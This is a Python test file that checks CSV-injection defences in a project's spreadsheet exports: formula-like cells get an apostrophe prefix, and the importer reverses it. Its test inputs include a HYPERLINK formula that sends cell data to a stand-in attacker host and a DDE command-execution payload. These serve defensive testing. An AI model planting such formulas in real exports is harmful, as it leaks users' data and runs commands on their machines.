"""Cells of every CSV and XLSX SaferPlan writes (saferplan/safe_cells.py): text that begins with
= + - @, a tab or a carriage return gets an apostrophe before it (OWASP's rule for CSV injection),
numbers stay numbers, and the importer's `original_text` undoes exactly what was added. The
exports themselves are tested beside their pages (plans, funding)."""

import csv
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from saferplan import safe_cells
from saferplan.crime import tables
from saferplan.crime.statistics import compare_counts

HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&A2,"Click")'
HOSTILE = [
    HYPERLINK,
    "+44 1843 577000",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''@twice",
    "'not a formula",
    "plain text",
]


def csv_cells(text):
    return [cell for row in csv.reader(StringIO(text)) for cell in row]


def written_as_formula(text):
    return text[:1] in "=+-@\t\r" and text != ""


def test_crime_csv_cells_are_neutralised_and_changes_stay_numbers():
    table = tables.Table(
        "comparison",
        "Crimes",
        ["Crime type", "Count", "Change"],
        [
            ["=cmd|' /C calc'!A0", 35, tables.Change(compare_counts(35, 40))],
            ["Burglary", 0, tables.Change(None)],
        ],
    )
    rows = list(csv.reader(StringIO(tables.as_csv(table))))
    assert rows[0] == ["Crime type", "Count", "Change (%)", "p-value", "Verdict"]
    assert rows[1] == ["'=cmd|' /C calc'!A0", "35", "-12.5", "0.6445", "no change beyond chance"]
    assert rows[2] == ["Burglary", "0", "", "", ""]


@pytest.mark.parametrize("text", [*HOSTILE, "", "'", "''", "=", "'\t"])
def test_original_text_undoes_safe_value(text):
    assert safe_cells.original_text(safe_cells.safe_value(text)) == text
    assert not written_as_formula(safe_cells.safe_value(text))


@given(st.text())
def test_any_text_is_written_safely_and_read_back(text):
    written = safe_cells.safe_value(text)
    assert not written_as_formula(written)
    assert not safe_cells.UNWRITABLE.search(written)
    assert safe_cells.original_text(written) == safe_cells.UNWRITABLE.sub("", text)
